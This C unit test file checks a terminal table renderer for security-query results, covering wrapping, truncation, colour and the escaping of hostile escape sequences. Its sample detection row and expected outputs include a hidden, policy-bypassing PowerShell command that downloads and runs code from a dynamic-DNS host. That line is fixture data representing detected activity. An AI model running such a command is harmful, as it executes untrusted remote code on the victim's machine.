/*
 * test_table.c - the table for people: layouts by width, wrapping, colour, bounds, hostile cells and names.
 */
#include "rows.h"

#include "base/utf8.h"
#include "sink/show.h"

static const char *const HIT_NAMES[] = {"Timestamp",
                                        "DeviceName",
                                        "DeviceId",
                                        "InitiatingProcessFileName",
                                        "InitiatingProcessCommandLine",
                                        "InitiatingProcessAccountName",
                                        "RemoteUrl",
                                        "RemoteIP",
                                        "RemotePort",
                                        "LocalIP",
                                        "LocalPort",
                                        "Protocol",
                                        "DynamicDNSProvider",
                                        "ActionType"};
static const enum type HIT_TYPES[] = {TYPE_DATETIME, TYPE_STRING, TYPE_STRING, TYPE_STRING, TYPE_STRING,
                                      TYPE_STRING,   TYPE_STRING, TYPE_STRING, TYPE_INT,    TYPE_STRING,
                                      TYPE_INT,      TYPE_STRING, TYPE_STRING, TYPE_STRING};
static const char *const HITS[] = {
    "2026-03-12T17:44:10.1234567Z",
    "ws-fin-014.corp.example",
    "6c0bb1c1e3f4a0d9b1c2d3e4f5a6b7c8d9e0f1a2",
    "powershell.exe",
    "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command \"iex (iwr update.duckdns.org)\"",
    "j.okafor",
    "update-service.duckdns.org",
    "203.0.113.77",
    "443",
    "10.20.4.17",
    "50123",
    "Tcp",
    "DuckDNS",
    "ConnectionSuccess",
    "2026-03-11T09:00:02.5000000Z",
    "srv-files-01",
    "2222b1c1e3f4a0d9b1c2d3e4f5a6b7c8d9e0f1a2",
    NULL,
    NULL,
    NULL,
    "nas.ddns.net",
    "198.51.100.9",
    "5001",
    "10.20.1.2",
    "40000",
    "Tcp",
    "DDNS.net",
    "ConnectionFailed",
};

static void check_hits(unsigned width, bool unicode, const char *expected)
{
    struct rows rows;
    rows_init(&rows, HIT_NAMES, HIT_TYPES, 14, HITS, 2);
    assert_written(&rows, "table", &(struct sink_options){.width = width, .unicode = unicode}, expected);
    rows_release(&rows);
}

static void test_hits_at_80_cells(void **state)
{
    (void)state;
    check_hits(80, false,
               "Timestamp                     RemoteUrl                   DynamicDNSProvider\n"
               "----------------------------  --------------------------  ------------------\n"
               "2026-03-12T17:44:10.1234567Z  update-service.duckdns.org  DuckDNS\n"
               "  DeviceName: ws-fin-014.corp.example   InitiatingProcessAccountName: j.okafor\n"
               "  RemoteIP: 203.0.113.77   RemotePort: 443   LocalIP: 10.20.4.17\n"
               "  LocalPort: 50123   Protocol: Tcp   ActionType: ConnectionSuccess\n"
               "  DeviceId: 6c0bb1c1e3f4a0d9b1c2d3e4f5a6b7c8d9e0f1a2\n"
               "  InitiatingProcessFileName: powershell.exe\n"
               "  InitiatingProcessCommandLine: powershell.exe -NoProfile -WindowStyle Hidden\n"
               "      -ExecutionPolicy Bypass -Command \"iex (iwr update.duckdns.org)\"\n"
               "\n"
               "2026-03-11T09:00:02.5000000Z  nas.ddns.net                DDNS.net\n"
               "  DeviceName: srv-files-01   RemoteIP: 198.51.100.9   RemotePort: 5001\n"
               "  LocalIP: 10.20.1.2   LocalPort: 40000   Protocol: Tcp\n"
               "  ActionType: ConnectionFailed\n"
               "  DeviceId: 2222b1c1e3f4a0d9b1c2d3e4f5a6b7c8d9e0f1a2\n");
}

static void test_hits_at_160_cells(void **state)
{
    (void)state;
    check_hits(160, false,
               "                                                                          Initiating\n"
               "                                                       InitiatingProcess  Process                      "
               "                            DynamicDNS\n"
               "Timestamp                     DeviceName               FileName           AccountName    RemoteUrl     "
               "              RemoteIP      Provider    ActionType\n"
               "----------------------------  -----------------------  -----------------  -------------  "
               "--------------------------  ------------  ----------  -----------------\n"
               "2026-03-12T17:44:10.1234567Z  ws-fin-014.corp.example  powershell.exe     j.okafor       "
               "update-service.duckdns.org  203.0.113.77  DuckDNS     ConnectionSuccess\n"
               "  DeviceId: 6c0bb1c1e3f4a0d9b1c2d3e4f5a6b7c8d9e0f1a2   RemotePort: 443   LocalIP: 10.20.4.17   "
               "LocalPort: 50123   Protocol: Tcp\n"
               "  InitiatingProcessCommandLine: powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass "
               "-Command \"iex (iwr update.duckdns.org)\"\n"
               "\n"
               "2026-03-11T09:00:02.5000000Z  srv-files-01                                               nas.ddns.net  "
               "              198.51.100.9  DDNS.net    ConnectionFailed\n"
               "  DeviceId: 2222b1c1e3f4a0d9b1c2d3e4f5a6b7c8d9e0f1a2   RemotePort: 5001   LocalIP: 10.20.1.2   "
               "LocalPort: 40000   Protocol: Tcp\n");
}

static void test_few_columns_stand_in_a_grid(void **state)
{
    (void)state;
    static const char *const NAMES[] = {"RemoteUrl", "Count"};
    static const enum type TYPES[] = {TYPE_STRING, TYPE_LONG};
    static const char *const CELLS[] = {"a.duckdns.org", "12", "b.ddns.net", "3", NULL, NULL};
    struct rows rows;
    rows_init(&rows, NAMES, TYPES, 2, CELLS, 3);
    assert_written(&rows, "table", &(struct sink_options){.width = 80, .unicode = true},
                   "RemoteUrl      Count\n"
                   "\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500  "
                   "\u2500\u2500\u2500\u2500\u2500\n"
                   "a.duckdns.org     12\n"
                   "b.ddns.net         3\n"
                   "\n");
    rows_release(&rows);
}

static void test_long_cells_are_wrapped_then_cut(void **state)
{
    (void)state;
    static const char *const NAMES[] = {"Text", "Port"};
    static const enum type TYPES[] = {TYPE_STRING, TYPE_LONG};
    static const char *const CELLS[] = {"one two three four five six seven eight nine ten eleven twelve thirteen "
                                        "fourteen fifteen sixteen seventeen eighteen nineteen twenty",
                                        "1"};
    struct rows rows;
    rows_init(&rows, NAMES, TYPES, 2, CELLS, 1);
    assert_written(&rows, "table", &(struct sink_options){.width = 32},
                   "Text                        Port\n"
                   "--------------------------  ----\n"
                   "one two three four five        1\n"
                   "six seven eight nine ten\n"
                   "eleven twelve thirteen\n"
                   "fourteen fifteen sixtee...\n");
    rows_release(&rows);
}

static void test_empty_result_says_so(void **state)
{
    (void)state;
    static const char *const NAMES[] = {"A"};
    static const enum type TYPES[] = {TYPE_LONG};
    struct rows rows;
    rows_init(&rows, NAMES, TYPES, 1, NULL, 0);
    assert_written(&rows, "table", &(struct sink_options){.width = 80}, "A\n-\n(no rows)\n");
    rows_release(&rows);
}

static void test_provider_is_coloured(void **state)
{
    (void)state;
    static const char *const NAMES[] = {"DynamicDNSProvider", "B"};
    static const enum type TYPES[] = {TYPE_STRING, TYPE_STRING};
    static const char *const CELLS[] = {"DuckDNS", "x\x1b[0m"};
    struct rows rows;
    struct out *out;
    struct err err;
    rows_init(&rows, NAMES, TYPES, 2, CELLS, 1);
    struct sink_options options = {.width = 80, .color = true};
    assert_int_equal(rows_write(&rows, "table", &options, 1, &out, &err), ERR_NONE);
    struct slice text = out_memory(out);
    ptrdiff_t at = slice_find(text, SLICE("DuckDNS"), 0);
    assert_true(at > 7);
    assert_true(slice_starts(slice_cut(text, (size_t)at - 7, text.len), SLICE("\x1b[1;3")));
    assert_true(slice_find(text, SLICE("DuckDNS\x1b[0m"), 0) >= 0);
    assert_true(slice_find(text, SLICE("x\\x1b[0m"), 0) >= 0); /* the data's own escape is shown */
    out_close(out);
    rows_release(&rows);
}

/* Whatever the width, no line is wider, nothing is lost, and nothing breaks. */
static void test_every_width_is_kept(void **state)
{
    (void)state;
    struct rows rows;
    rows_init(&rows, HIT_NAMES, HIT_TYPES, 14, HITS, 2);
    for (unsigned width = 1; width <= 400; width++) {
        struct out *out;
        struct err err;
        assert_int_equal(rows_write(&rows, "table", &(struct sink_options){.width = width}, 1, &out, &err), ERR_NONE);
        struct slice text = out_memory(out);
        size_t lines = 0;
        while (text.len > 0) {
            ptrdiff_t end = slice_find(text, SLICE("\n"), 0);
            assert_true(end >= 0);
            if (width >= 36) /* the longest label, and 6 cells */
                assert_true(show_width(slice_cut(text, 0, (size_t)end)) <= width);
            text = slice_cut(text, (size_t)end + 1, text.len);
            lines++;
        }
        assert_true(lines >= 4);
        assert_true(slice_find(out_memory(out), SLICE("DDNS.net"), 0) >= 0 || width < 8);
        out_close(out);
    }
    rows_release(&rows);
}

/* Rows beyond the sample stream with the widths that the sample gave. */
static void test_many_rows_stream(void **state)
{
    (void)state;
    static const char *const NAMES[] = {"Text", "Port"};
    static const enum type TYPES[] = {TYPE_STRING, TYPE_LONG};
    static const char *const CELLS[] = {"abc", "1", "def", "22"};
    struct rows rows;
    struct out *out;
    struct err err;
    rows_init(&rows, NAMES, TYPES, 2, CELLS, 2);
    assert_int_equal(rows_write(&rows, "table", &(struct sink_options){.width = 80}, 1500, &out, &err), ERR_NONE);
    struct slice text = out_memory(out);
    size_t lines = 0;
    for (size_t i = 0; i < text.len; i++)
        lines += text.ptr[i] == '\n';
    assert_int_equal(lines, 2 + 3000);
    assert_true(slice_ends(text, SLICE("abc      1\ndef     22\n")));
    out_close(out);
    rows_release(&rows);
}

static void test_hostile_names_do_no_harm(void **state)
{
    (void)state;
    static const char *const NAMES[] = {"\x1b[31mRed\xE2\x80\xAE", ""};
    static const enum type TYPES[] = {TYPE_STRING, TYPE_STRING};
    static const char *const CELLS[] = {"a", "b"};
    struct rows rows;
    rows_init(&rows, NAMES, TYPES, 2, CELLS, 1);
    assert_written(&rows, "table", &(struct sink_options){.width = 80, .unicode = true},
                   "\\x1b[31mRed\\u{202e}\n"
                   "\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500"
                   "\u2500\u2500\u2500  \u2500\n"
                   "a                    b\n");
    rows_release(&rows);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_hits_at_80_cells),
        cmocka_unit_test(test_hits_at_160_cells),
        cmocka_unit_test(test_few_columns_stand_in_a_grid),
        cmocka_unit_test(test_long_cells_are_wrapped_then_cut),
        cmocka_unit_test(test_empty_result_says_so),
        cmocka_unit_test(test_provider_is_coloured),
        cmocka_unit_test(test_every_width_is_kept),
        cmocka_unit_test(test_many_rows_stream),
        cmocka_unit_test(test_hostile_names_do_no_harm),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
